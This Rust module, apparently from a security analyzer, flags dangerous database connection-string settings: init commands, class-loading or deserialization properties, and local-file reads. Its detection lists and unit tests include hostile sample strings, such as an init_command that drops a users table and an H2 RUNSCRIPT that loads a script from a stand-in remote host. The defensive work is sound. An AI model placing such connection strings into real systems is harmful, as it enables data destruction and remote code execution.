//! Connection strings and driver settings given beside a query (`dsn`, `jdbc_url`,
//! `connection_string`): a statement run on connecting (MySQL's `init_command`, H2's
//! `INIT=`), driver properties that load classes or deserialize what the server sends
//! (`socketFactory`, `autoDeserialize`), and `local_infile`, with which the server may ask
//! for any file of this machine. A `SELECT 1` beside them proves nothing.

use serde_json::{Map, Value};

use super::{Ctx, prefix, resource, sql};
use crate::Effect::{Destructive, Mutating};

/// Keys that hold a connection string or URL.
const CONNECTION_KEYS: &[&str] = &[
    "dsn",
    "jdbc_url",
    "jdbcurl",
    "connection",
    "connection_string",
    "connectionstring",
    "connection_url",
    "conn_str",
    "conn_string",
    "database_url",
    "db_url",
    "url",
    "uri",
];

/// Settings whose value is a statement run on connecting.
const INIT_SETTINGS: &[&str] = &["init_command", "initcommand", "init", "init_sql", "initsql"];

/// Driver properties that load a class named by the caller or deserialize server data.
const CLASS_SETTINGS: &[&str] = &[
    "socketfactory",
    "sslfactory",
    "sslfactoryarg",
    "socketfactoryarg",
    "queryinterceptors",
    "statementinterceptors",
    "exceptioninterceptors",
    "connectionlifecycleinterceptors",
    "authenticationpluginclassname",
    "authenticationplugins",
    "loggerclassname",
    "sslhostnameverifier",
];

/// Settings that let the server read this machine's files or write local ones.
const FILE_SETTINGS: &[&str] = &[
    "local_infile",
    "localinfile",
    "allowloadlocalinfile",
    "allowurlinlocalinfile",
    "allowlocalinfile",
    "loggerfile",
    "trace_level_file",
    "tracefile",
];

/// The `key=value` settings of a connection string: URL query (`?a=1&b=2`), JDBC and H2
/// (`;A=1;B=2`) and ADO.NET (`A=1;B=2`) forms. Values are percent-decoded.
fn settings(conn: &str) -> Vec<(String, String)> {
    let body = conn.split_once('?').map_or(conn, |(_, q)| q);
    let mut out = Vec::new();
    for part in body
        .split(['&', ';'])
        .chain(conn.split(';').skip(1))
        .take(64)
    {
        if let Some((k, v)) = part.split_once('=') {
            let key: String = k
                .trim()
                .chars()
                .filter(|c| !matches!(c, ' ' | '-'))
                .collect::<String>()
                .to_ascii_lowercase();
            out.push((key, resource::percent_decode(v.trim())));
        }
    }
    out
}

/// Judges the connection strings and top-level driver settings of an input.
pub(crate) fn analyse(ctx: &mut Ctx, map: &Map<String, Value>, depth: usize) {
    let mut found: Vec<(String, String)> = Vec::new();
    for (k, v) in map {
        let key = k.to_ascii_lowercase();
        match v {
            Value::String(s)
                if CONNECTION_KEYS.contains(&key.as_str())
                    && s.contains('=')
                    && (!matches!(key.as_str(), "url" | "uri") || database_url(s)) =>
            {
                found.extend(settings(s));
            }
            Value::Object(m) if CONNECTION_KEYS.contains(&key.as_str()) => {
                found.extend(
                    m.iter()
                        .map(|(k, v)| (k.to_ascii_lowercase(), value_text(v))),
                );
            }
            // A bare `init` beside other arguments is not a connection's; other keys only
            // when they name a setting judged below.
            _ if key != "init" => {
                let key = key.replace('-', "");
                if INIT_SETTINGS.contains(&key.as_str())
                    || CLASS_SETTINGS.contains(&key.as_str())
                    || FILE_SETTINGS.contains(&key.as_str())
                    || key == "autodeserialize"
                {
                    found.push((key, value_text(v)));
                }
            }
            _ => {}
        }
    }
    for (key, value) in found {
        let on = !matches!(
            value.trim().to_ascii_lowercase().as_str(),
            "" | "0" | "false" | "no" | "off" | "null"
        );
        if INIT_SETTINGS.contains(&key.as_str()) && on {
            ctx.add(
                Mutating,
                format!(
                    "connection: `{key}` runs `{}` on connecting",
                    prefix(&value, 60)
                ),
            );
            // H2 separates statements with `\;` inside a URL.
            let statements = value.replace("\\;", ";");
            if statements.to_ascii_lowercase().contains("runscript") {
                ctx.add(
                    Destructive,
                    format!(
                        "connection: `{key}` runs a script named in the connection string (`{}`)",
                        prefix(&value, 60)
                    ),
                );
            }
            ctx.via("a connection's init command", |ctx| {
                sql::analyse(ctx, &statements, depth + 1, false)
            });
        } else if on && (CLASS_SETTINGS.contains(&key.as_str()) || key == "autodeserialize") {
            ctx.add(
                Mutating,
                format!(
                    "connection: `{key}={}` makes the driver load or deserialize code",
                    prefix(&value, 60)
                ),
            );
        } else if FILE_SETTINGS.contains(&key.as_str()) && on {
            ctx.add(
                Mutating,
                format!(
                    "connection: `{key}` lets the server read this machine's files, or writes a local file"
                ),
            );
        }
    }
}

/// A database URL (`jdbc:`, `mysql://`, `postgresql://`, …), not a web page's.
fn database_url(s: &str) -> bool {
    let l = s.trim_start().to_ascii_lowercase();
    [
        "jdbc:",
        "mysql",
        "mariadb",
        "postgres",
        "sqlserver:",
        "mssql",
        "oracle",
        "h2:",
        "sqlite",
        "clickhouse",
        "redshift",
        "snowflake",
        "cockroach",
    ]
    .iter()
    .any(|p| l.starts_with(p))
}

fn value_text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Bool(b) => b.to_string(),
        Value::Number(n) => n.to_string(),
        _ => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::settings;

    #[test]
    fn connection_string_forms() {
        let s = settings("mysql+pymysql://app@db/app?init_command=DROP%20TABLE%20users&x=1");
        assert!(
            s.contains(&("init_command".into(), "DROP TABLE users".into())),
            "{s:?}"
        );
        let s = settings("jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://e/x.sql'");
        assert!(
            s.iter()
                .any(|(k, v)| k == "init" && v.starts_with("RUNSCRIPT")),
            "{s:?}"
        );
        let s = settings("Server=h;Database=app;Init Command=x");
        assert!(s.iter().any(|(k, _)| k == "initcommand"), "{s:?}");
    }
}
